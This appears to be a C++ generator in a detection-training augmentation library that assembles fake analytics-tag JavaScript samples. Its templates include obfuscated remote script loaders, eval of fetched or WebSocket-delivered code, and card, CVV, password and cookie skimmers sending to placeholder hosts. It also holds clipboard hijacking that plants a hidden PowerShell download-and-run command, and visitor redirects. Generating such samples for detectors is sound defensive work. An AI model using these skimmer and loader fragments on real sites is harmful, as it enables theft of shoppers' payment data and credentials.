#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/error.h"

// JavaScript that passes for a tag of analytics or for a part of a shop: it hides where it loads
// from, runs what it is sent, or carries what is typed into a form to another place. What the same
// tags look like when they are honest: hard_negative_tags.cc.
namespace fovea::augment {
namespace {

// A host as numbers, with the arithmetic that makes text of it.
std::string Numbers(Junk& j) {
  const int64_t key = j.Int(1, 120);
  const bool shifted = j.Chance(0.5);
  std::string numbers;
  for (const char c : "//" + j.Host() + "/" + j.Word() + (j.Chance(0.5) ? ".js" : ""))
    numbers += (numbers.empty() ? "" : ",") + StrCat(shifted ? c + key : c ^ key);
  const std::string one = shifted ? "~9~-" + StrCat(key) : "~9~^" + StrCat(key);
  switch (j.Int(0, 3)) {
    case 0:
      return "[" + numbers + "].map(function(~9~){return String.fromCharCode(" + one +
             ")}).join('')";
    case 1:
      return "[" + numbers + "].map(~9~=>String.fromCharCode(" + one + ")).join(\"\")";
    case 2:
      return "String.fromCharCode.apply(null,[" + numbers + "].map(function(~9~){return " + one +
             "}))";
    default:
      return "[" + numbers + "].reduce(function(~8~,~9~){return ~8~+String.fromCharCode(" + one +
             ")},'')";
  }
}

const Makers& TagMakers() {
  static const Makers makers = {
      {"numbers", Numbers},
      {"hid",
       [](Junk& j) {
         return j.Pick(
             {"~numbers~", "~numbers~", "~numbers~", "atob('~b64s~')", "window.atob('~b64s~')",
              "atob(\"~b64s~\")", "'~letters~'.split('').reverse().join('')+'/~word~.js'",
              "decodeURIComponent('~pct~')", "\"~esc~\"", "String.fromCharCode(~codes~)",
              "'//'+['~word~','~letters~','invalid'].join('.')", "atob(~6~.dataset.~word~)",
              "atob(document.currentScript.getAttribute('data-~word~'))",
              "(function(~7~){return ~7~.replace(/~letters~/g,'')})('~long~')",
              "'~hex~'.replace(/../g,function(~7~){return "
              "String.fromCharCode(parseInt(~7~,16)^~small~)})"});
       }},
      {"far",
       [](Junk& j) {
         return j.Chance(0.4) ? "~hid~"
                              : j.Pick({"'~url~'", "\"~url~\"", "'//~host~/~word~'",
                                        "'https://'+'~host~'+'/~letters~'", "'~url.php~'",
                                        "'wss://~host~'.replace('wss','https')"});
       }},
      {"run",
       [](Junk& j) {
         return j.Pick({"eval(~1~)", "new Function(~1~)()", "(new Function(~1~))()",
                        "Function(~1~)()", "window['eval'](~1~)", "setTimeout(~1~,0)",
                        "(0,eval)(~1~)", "new Function(~1~).call(this)",
                        "window.eval.call(window,~1~)", "[].filter.constructor(~1~)()",
                        "document.head.appendChild(Object.assign(document.createElement("
                        "'script'),{text:~1~}))",
                        "eval(atob(~1~))", "new Function('d',~1~)(document)",
                        "document.write('<script>'+~1~+'<\\/script>')"});
       }},
      {"layer",
       [](Junk& j) {
         return j.Pick(
             {"dataLayer", "_gaq", "gtag", "_paq", "fbq", "ga", "_hsq", "uetq", "dataLayer"});
       }},
      {"tag",
       [](Junk& j) {
         return j.Pick({"GTM-~letters~", "UA-~digits~-1", "G-~letters~", "~digits~", "AW-~digits~",
                        "~hexs~"});
       }},
      {"pay",
       [](Junk& j) {
         return j.Pick({"checkout", "onepage", "payment", "onestepcheckout", "order",
                        "firecheckout", "billing", "pay", "cart|checkout", "checkout|onestep",
                        "kasse", "zahlung", "commande", "pagamento"});
       }},
      {"gate",
       [](Junk& j) {
         return j.Pick({"location.href.indexOf('~pay~')>-1", "/~pay~/i.test(location.href)",
                        "window.location.pathname.includes('~pay~')",
                        "location.href.match(/~pay~/)",
                        "document.location.href.search('~pay~')!=-1",
                        "new RegExp('~pay~','gi').test("
                        "window.location)",
                        "~~location.href.indexOf(atob('~b64s~'))",
                        "document.querySelector('form[action*=\"~pay~\"]')",
                        "location.href.match(new RegExp(atob('~b64s~')))",
                        "!window.~word~&&/~pay~/.test(location)",
                        "!/localhost|admin/.test(location.href)&&/~pay~/.test(location.pathname)",
                        "localStorage.getItem('~word~')===null"});
       }},
      {"field",
       [](Junk& j) {
         return j.Pick({"cc_number", "card_number", "cardNumber", "payment[cc_number]", "cc-number",
                        "authorizenet_cc_number", "cardnumber", "ccnum", "wc-stripe-card-number",
                        "credit-card-number", "braintree_cc_number", "number"});
       }},
      {"code",
       [](Junk& j) {
         return j.Pick({"cc_cid", "cvv", "cvc", "payment[cc_cid]", "card_cvc", "cc-csc",
                        "security_code", "cardCode", "verification_value"});
       }},
      {"sel",
       [](Junk& j) {
         return j.Pick({"input,select,textarea", "input, select", "form input",
                        "[name^=payment],[name^=billing]", "#co-payment-form input",
                        "input[type=text],input[type=tel]", "form.checkout input",
                        "input[name*=card],input[name*=cvv],select[name*=exp]"});
       }},
      {"btn",
       [](Junk& j) {
         return j.Pick({"button.checkout", "#place_order", ".btn-checkout", "button[type=submit]",
                        "#submit-order", ".action.primary.checkout", "#payment-continue",
                        "a.button,button,input[type=submit]"});
       }},
      {"enc",
       [](Junk& j) {
         return j.Pick(
             {"btoa(~2~)", "btoa(JSON.stringify(~2~))", "encodeURIComponent(JSON.stringify(~2~))",
              "btoa(encodeURIComponent("
              "JSON.stringify(~2~)))",
              "JSON.stringify(~2~)", "encodeURIComponent(~2~)",
              "JSON.stringify({d:~2~,h:location.hostname})", "~2~.split('').reverse().join('')",
              "CryptoJS.AES.encrypt(JSON.stringify(~2~),'~word~').toString()"});
       }},
      {"send",
       [](Junk& j) {
         return j.Pick(
             {"new Image().src=~far~+'?~key~='+~enc~", "(new Image).src=~far~+\"?\"+~enc~",
              "var ~3~=new Image();~3~.src=~far~+'/'+~enc~",
              "fetch(~far~,{method:'POST',mode:'no-cors',body:~enc~})",
              "navigator.sendBeacon(~far~,~enc~)",
              "var ~3~=new "
              "XMLHttpRequest();~3~.open('POST',~far~,true);~3~.setRequestHeader('Content-type','"
              "application/"
              "x-www-form-urlencoded');~3~.send('~key~='+~enc~)",
              "$.post(~far~,{~key~:~enc~})",
              "jQuery.ajax({type:'POST',url:~far~,data:'~key~='+~enc~})",
              "var "
              "~3~=document.createElement('img');~3~.width=1;~3~.src=~far~+'?i='+~enc~;document."
              "body.appendChild(~3~)",
              "var "
              "~3~=document.createElement('script');~3~.src=~far~+'?q='+~enc~;document.head."
              "appendChild(~3~)",
              "new WebSocket('wss://~host~/~word~').onopen=function(){this.send(~enc~)}",
              "var "
              "~3~=document.createElement('form');~3~.action=~far~;~3~.method='post';~3~.target='~"
              "word~';~3~.innerHTML='<input "
              "name=~key~>';~3~.firstChild.value=~enc~;document.body.appendChild(~3~);~3~.submit()",
              "axios.post(~far~,~enc~)", "document.createElement('link').href=~far~+'?'+~enc~"});
       }},
      {"grab",
       [](Junk& j) {
         return j.Pick(
             {"var "
              "~2~='';document.querySelectorAll('~sel~').forEach(function(~4~){if(~4~.value)~2~+=~"
              "4~.name+'='+~4~.value+'&'});",
              "var ~2~={};for(var ~4~ of "
              "document.querySelectorAll('~sel~'))~2~[~4~.name||~4~.id]=~4~.value;",
              "let "
              "~2~=[...document.querySelectorAll('~sel~')].map(~4~=>~4~.name+':'+~4~.value).join('|"
              "');",
              "var ~2~={},~5~=document.getElementsByTagName('input');for(var "
              "~4~=0;~4~<~5~.length;~4~++){if(~5~[~4~].value.length>0)"
              "~2~[~5~[~4~].name]=~5~[~4~].value;}",
              "var ~2~=jQuery('form').serialize();", "var ~2~=$('~sel~').serializeArray();",
              "var "
              "~2~=[document.querySelector('[name=\"~field~\"]').value,document.querySelector('["
              "name=\"~code~\"]').value,"
              "document.querySelector('select[name*=exp]').value].join('|');",
              "var "
              "~2~={num:document.getElementById('~field~').value,cvv:document.getElementById('~"
              "code~').value,name:document."
              "getElementsByName('firstname')[0].value,ua:navigator.userAgent};",
              "const ~2~=Object.fromEntries(new "
              "FormData(document.querySelector('form[id*=~pay~]')));",
              "var "
              "~2~=localStorage.getItem('~word~')||'';~2~+=Array.prototype.map.call(document.forms["
              "0].elements,function(~4~){"
              "return ~4~.value}).join(';');"});
       }},
      {"when",
       [](Junk& j) {
         return j.Pick({"document.addEventListener('submit',function(){~act~},true);",
                        "setInterval(function(){~act~},~num~);",
                        "jQuery(document).on('click','~btn~',function(){~act~});",
                        "document.querySelectorAll('~btn~').forEach(function(~0~){~0~."
                        "addEventListener('mousedown',function(){~act~})});",
                        "window.addEventListener('beforeunload',function(){~act~});",
                        "document.body.addEventListener('click',function(~0~){if(~0~."
                        "target.matches('~btn~')){~act~}});",
                        "function ~0~(){~act~}setTimeout(~0~,~num~);",
                        "document.addEventListener('change',function(~0~){if(/~field~|~code~/.test("
                        "~0~.target.name)){~act~}});",
                        "(function(){~act~})();",
                        "$(function(){$('~btn~').click(function(){~act~})});",
                        "window.onload=function(){~act~};",
                        "var ~0~=new "
                        "MutationObserver(function(){~act~});~0~.observe(document.body,{childList:"
                        "true,subtree:true});"});
       }},
      {"act", [](Junk& j) {
         return j.Pick({"~grab~~send~;", "~grab~~send~;", "if(~gate~){~grab~~send~;}",
                        "try{~grab~~send~}catch(e){}", "~grab~if(~2~.length>~small~){~send~;}",
                        "if(~gate~){try{~grab~~send~;}catch(~7~){}}"});
       }}};
  return makers;
}

constexpr const char* kTags[] = {
    // Loaders with the shape of a tag manager.
    "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new "
    "Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j="
    "d.createElement(s);j.async=true;j.src=~hid~;f.parentNode.insertBefore(j,f);})(window,document,"
    "'script','~layer0~','~tag~');",
    "(function(w,d,s,l,i){if(~gate~){var "
    "f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=1;j.src=i;f.parentNode."
    "insertBefore(j,f)}})("
    "window,document,'script','~layer0~',~hid~);",
    "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;a=s.createElement(o);m=s."
    "getElementsByTagName(o)[0];a.async=1;a.src=~hid~;m."
    "parentNode.insertBefore(a,m)})(window,document,'script','//~host~/"
    "analytics.js','ga');ga('create','~tag~','auto');",
    "(function(a,b,c,d,e,f){f=b.createElement(c);e=b.getElementsByTagName(c)[0];if(a.location.href."
    "match(new RegExp(atob(d)))){f.async=1;f.src=new "
    "Function(atob(~6~))();e.parentNode.insertBefore(f,e)}})(window,document,'script','~b64s~');",
    "!function(f,b,e,v,n,t,s){n=f.~layer0~=function(){};t=b.createElement(e);t.async=!0;t.src=v;s="
    "b."
    "getElementsByTagName(e)[0];s.parentNode."
    "insertBefore(t,s)}(window,document,'script',~hid~);",
    "window.~layer0~=window.~layer0~||[];(function(){var "
    "~0~=document.createElement('script');~0~.async=true;~0~.src=~hid~;document.head.appendChild("
    "~0~)})();",
    "(function(){var "
    "~0~=~hid~,~1~=document.createElement('script');~1~.type='text/"
    "javascript';~1~.src='https:'+~0~;var s=document."
    "getElementsByTagName('script')[0];s.parentNode.insertBefore(~1~,s)})();",
    "const ~0~=~hid~;if(~gate~){const "
    "~1~=document.createElement('script');~1~.src=~0~;document.body.append(~1~)}",
    "(function(~0~,~1~,~2~){var "
    "~3~=~1~.createElement('script');~3~.onload=function(){~3~.remove()};~3~.src=~2~;~1~.head."
    "appendChild(~3~)})(window,"
    "document,~hid~);",
    "jQuery.getScript(~hid~);", "import(~hid~);", "if(~gate~)jQuery.getScript(~hid~);",
    "$('head').append('<scr'+'ipt src=\"'+~hid~+'\"></scr'+'ipt>');",
    "document.write(unescape(\"%3Cscript src='\")+~hid~+unescape(\"'%3E%3C/script%3E\"));",
    "var "
    "~0~=document.createElement('iframe');~0~.style.cssText='position:absolute;left:-~num~px';~0~."
    "src=~hid~;document.body.appendChild(~0~);",
    // What is sent is run.
    "var ~0~=new WebSocket(~hid~);~0~.onmessage=function(~2~){var ~1~=~2~.data;~run~;};",
    "if(~gate~){var ~0~=new "
    "WebSocket('wss:'+~hid~+'?source='+encodeURIComponent(location.href));~0~.onmessage=function(~"
    "2~){var ~1~=~2~.data;~run~}}",
    "(function(~0~){~0~.onmessage=function(~2~){const ~1~=~2~.data;~run~}})(new "
    "WebSocket('wss://~host~/~word~'));",
    "(function(w,d,s){w.~layer0~=w.~layer0~||new "
    "WebSocket(s);w.~layer0~.onmessage=function(~2~){var "
    "~1~=~2~.data;~run~}})(window,document,'wss://~host~/"
    "~word~/?id=~tag~');",
    "const ~0~=new "
    "WebSocket(`wss://"
    "${~hid~}`);~0~.addEventListener('open',()=>~0~.send(location.host));~0~.addEventListener('"
    "message',({data:~1~})=>{"
    "~run~});",
    "fetch(~hid~).then(function(~2~){return ~2~.text()}).then(function(~1~){~run~});",
    "fetch(~far~).then(~2~=>~2~.text()).then(~1~=>{~run~});",
    "fetch(~far~).then(~2~=>~2~.json()).then(~2~=>{const ~1~=~2~.~word~;~run~});",
    "(async()=>{const ~2~=await fetch(~far~),~1~=await ~2~.text();~run~})();",
    "$.get(~far~,function(~1~){~run~});",
    "var ~2~=new "
    "XMLHttpRequest();~2~.open('GET',~far~,true);~2~.onreadystatechange=function(){if(~2~."
    "readyState==4&&~2~.status==200){var ~1~=~2~."
    "responseText;~run~;}};~2~.send();",
    "window.addEventListener('message',function(~2~){var ~1~=~2~.data;~run~});",
    "var ~2~=new EventSource(~hid~);~2~.onmessage=function(~3~){var ~1~=~3~."
    "data;~run~};",
    "var "
    "~1~=localStorage.getItem('~word~');if(~1~){~run~}else{fetch(~far~).then(~2~=>~2~.text()).then("
    "~2~=>localStorage.setItem('~word~',~2~))}",
    "var ~2~=document.cookie.match(/~key~=([^;]+)/);if(~2~){var "
    "~1~=decodeURIComponent(~2~[1]);~run~}",
    "var ~1~=document.getElementById('~word~').getAttribute('content');~run~;",
    "var ~1~=document.querySelector('meta[name=\"~word~\"]').content;~run~;",
    "var ~0~=new Image();~0~.onload=function(){var "
    "~2~=document.createElement('canvas').getContext('2d');~2~.drawImage(~0~,0,0);var "
    "~3~=~2~.getImageData("
    "0,0,~num~,1).data,~1~='';for(var "
    "~4~=0;~3~[~4~];~4~+=4)~1~+=String.fromCharCode(~3~[~4~]);~run~};~0~.src=~far~;",
    // What is typed is carried away.
    "~when~", "~when~", "~when~", "~when~", "~when~", "~when~", "~when~", "~when~",
    "if(~gate~){~when~}", "if(~gate~){~when~}", "(function(){if(~gate~){~when~}})();",
    "setTimeout(function(){if(~gate~){~when~}},~num~);",
    "(function(w,d){w.~layer0~=w.~layer0~||[];~when~})(window,document);",
    "var ~0~=document.createElement('div');~0~.innerHTML='<input id=\"~field~\" placeholder=\"Card "
    "number\"><input id=\"~code~\" placeholder=\"CVV\">';"
    "document.querySelector('.payment-method').appendChild(~0~);document.getElementById('~code~')."
    "onchange=function(){~grab~~send~};",
    "document.querySelector('iframe[src*=~pay~]').remove();~when~",
    "document.addEventListener('keyup',function(~0~){var "
    "~2~=~0~.target.name+'='+~0~.target.value;if(/~field~|~code~|pass/.test(~2~)){~send~}});",
    "document.addEventListener('input',function(~0~){window.~word~=(window.~word~||'')+(~0~.data||'"
    "');var ~2~=window.~word~;if(~2~.length%~small~==0){~send~}});",
    "document.querySelectorAll('input[type=password]').forEach(function(~0~){~0~.addEventListener('"
    "blur',function(){var ~2~=~0~.value+'@'+document.forms[0]"
    ".elements[0].value;~send~})});",
    "document.querySelector('#login-form,form[action*=login]').addEventListener('submit',function()"
    "{var ~2~=new URLSearchParams(new FormData(this)).toString();"
    "~send~});",
    "var ~2~=document.cookie;~send~;",
    "if(document.cookie.indexOf('admin')>-1){var "
    "~2~=document.cookie+'|'+document.body.innerHTML;~send~;}",
    "navigator.clipboard.readText().then(function(~2~){~send~});",
    "document.addEventListener('copy',function(~0~){~0~.clipboardData.setData('text/"
    "plain','powershell -w hidden -c \"iwr ~url~|iex\"');~0~."
    "preventDefault()});",
    "const ~0~=window.fetch;window.fetch=function(~1~,~4~){if(/~pay~/.test(~1~)){var "
    "~2~=~4~&&~4~.body;~send~}return ~0~.apply(this,arguments)};",
    "var "
    "~0~=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(~2~){if(/"
    "~field~|~code~/.test(~2~)){~send~}return ~0~.apply(this,"
    "arguments)};",
    // Visitors are sent on.
    "if(/android|iphone/"
    "i.test(navigator.userAgent)&&!localStorage.~word~){localStorage.~word~=1;location.replace(~"
    "hid~)}",
    "if(document.referrer.match(/google|bing|yahoo/)){window.location=~hid~}",
    "document.addEventListener('click',function(){window.open(~hid~)},{once:true});",
    "setTimeout(function(){top.location.href=~hid~},~num~);"};

}  // namespace

std::string TagLookalike(Junk& junk) { return FillAny(kTags, TagMakers(), junk); }

}  // namespace fovea::augment
